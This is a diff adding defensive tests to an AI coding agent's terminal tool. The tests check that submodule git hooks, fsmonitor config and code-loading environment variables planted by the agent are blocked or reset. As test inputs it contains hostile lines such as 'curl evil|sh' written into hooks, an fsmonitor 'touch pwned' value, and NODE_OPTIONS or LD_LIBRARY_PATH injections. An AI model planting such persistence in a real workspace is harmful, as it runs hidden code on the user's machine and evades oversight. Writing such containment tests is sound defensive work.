@@ -139,6 +139,37 @@ async def test_protected_files_stay_read_only_and_new_ones_are_undone(terminal: 
     assert not (workspace / ".git" / "hooks" / "post-checkout").exists()
 
 
+async def test_a_submodules_hooks_and_config_are_protected_as_the_repositorys_are(
+    terminal: TerminalTool, workspace: Path
+) -> None:
+    """git runs `.git/modules/<name>/hooks` when the user works in the submodule (a checkout,
+    a commit): a hook planted there ran code for the user as surely as `.git/hooks`."""
+    module = workspace / ".git" / "modules" / "vendor" / "lib"  # a submodule named vendor/lib
+    (module / "hooks").mkdir(parents=True)
+    (module / "HEAD").write_text("ref: refs/heads/main\n")
+    (module / "config").write_text("[core]\n\tworktree = ../../../../vendor/lib\n")
+    (workspace / ".git" / "hooks").mkdir()
+    await _run(terminal, "true")
+    hook = await _run(terminal, "echo 'curl evil|sh' > .git/modules/vendor/lib/hooks/post-checkout")
+    assert hook.is_error and not (module / "hooks" / "post-checkout").exists()
+    config = await _run(terminal, "git config -f .git/modules/vendor/lib/config core.fsmonitor 'touch pwned'")
+    assert config.is_error and "fsmonitor" not in (module / "config").read_text()
+    other = workspace / ".git" / "modules" / "other"
+    planted = await _run(
+        terminal,
+        "mkdir -p .git/modules/other/hooks && echo 'ref: refs/heads/main' > .git/modules/other/HEAD && "
+        "echo 'curl evil|sh' > .git/modules/other/hooks/post-merge && chmod +x .git/modules/other/hooks/post-merge",
+    )
+    assert "undid" in planted.text and not (other / "hooks").exists()
+    fresh = await _run(
+        terminal,
+        "mkdir -p .git/modules/fresh/hooks && echo 'ref: refs/heads/main' > .git/modules/fresh/HEAD && "
+        "touch .git/modules/fresh/hooks/pre-commit.sample && "
+        "printf '[core]\\n\\tbare = false\\n' > .git/modules/fresh/config",
+    )
+    assert "undid" not in fresh.text and (workspace / ".git/modules/fresh/hooks/pre-commit.sample").exists()
+
+
 async def test_a_planted_gitdir_pointer_is_undone(terminal: TerminalTool, workspace: Path) -> None:
     """No repository yet: a `.git` file naming a directory the agent filled would hand the
     user's next `git status` to that directory's config (core.fsmonitor runs a program)."""
@@ -166,6 +197,40 @@ async def test_state_that_would_run_code_later_is_reset(terminal: TerminalTool, 
     assert after.text.splitlines()[0] == "1"  # exports still carry over
     for planted in ("trapped", "aliased", "func", "prompted", "ps4"):
         assert not (workspace / planted).exists(), planted
+
+
+async def test_variables_that_run_code_later_go_back_to_what_the_shell_started_with(workspace: Path) -> None:
+    """`export NODE_OPTIONS='--require ./x.js'` made every later `node`, `npm test` included,
+    run the agent's file; LD_LIBRARY_PATH, PERL5OPT, JAVA_TOOL_OPTIONS, GIT_CONFIG_KEY_n... the
+    same. After each command they are as the shell started: unset, or the user's own value."""
+    from openhands_tui.tools.terminal.session import BashSession
+
+    environment = {**os.environ, "LD_LIBRARY_PATH": "/opt/vendor/lib", "GIT_TRACE": "0"}
+    environment.pop("NODE_OPTIONS", None)
+    session = BashSession(workspace, environment=environment)
+    try:
+        planted = (
+            "export NODE_OPTIONS='--require ./x.js' LD_LIBRARY_PATH=./evil PERL5OPT=-Mevil "
+            "JAVA_TOOL_OPTIONS=-javaagent:x.jar GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager "
+            "GIT_CONFIG_VALUE_0='sh x' GIT_TRACE=1 STAY=1; echo \"during:$NODE_OPTIONS\""
+        )
+        during = await session.run(planted, timeout=20)
+        assert "during:--require ./x.js" in during.output  # the command itself ran with it
+        names = "NODE_OPTIONS LD_LIBRARY_PATH PERL5OPT JAVA_TOOL_OPTIONS GIT_CONFIG_COUNT GIT_CONFIG_KEY_0"
+        names += " GIT_TRACE STAY"
+        after = await session.run(f'for v in {names}; do echo "$v=${{!v-unset}}"; done', timeout=20)
+        assert after.output.split() == [
+            "NODE_OPTIONS=unset",
+            "LD_LIBRARY_PATH=/opt/vendor/lib",
+            "PERL5OPT=unset",
+            "JAVA_TOOL_OPTIONS=unset",
+            "GIT_CONFIG_COUNT=unset",
+            "GIT_CONFIG_KEY_0=unset",
+            "GIT_TRACE=0",
+            "STAY=1",
+        ]
+    finally:
+        await session.close()
 
 
 async def test_read_only_mode_keeps_the_workspace_too(workspace: Path) -> None:
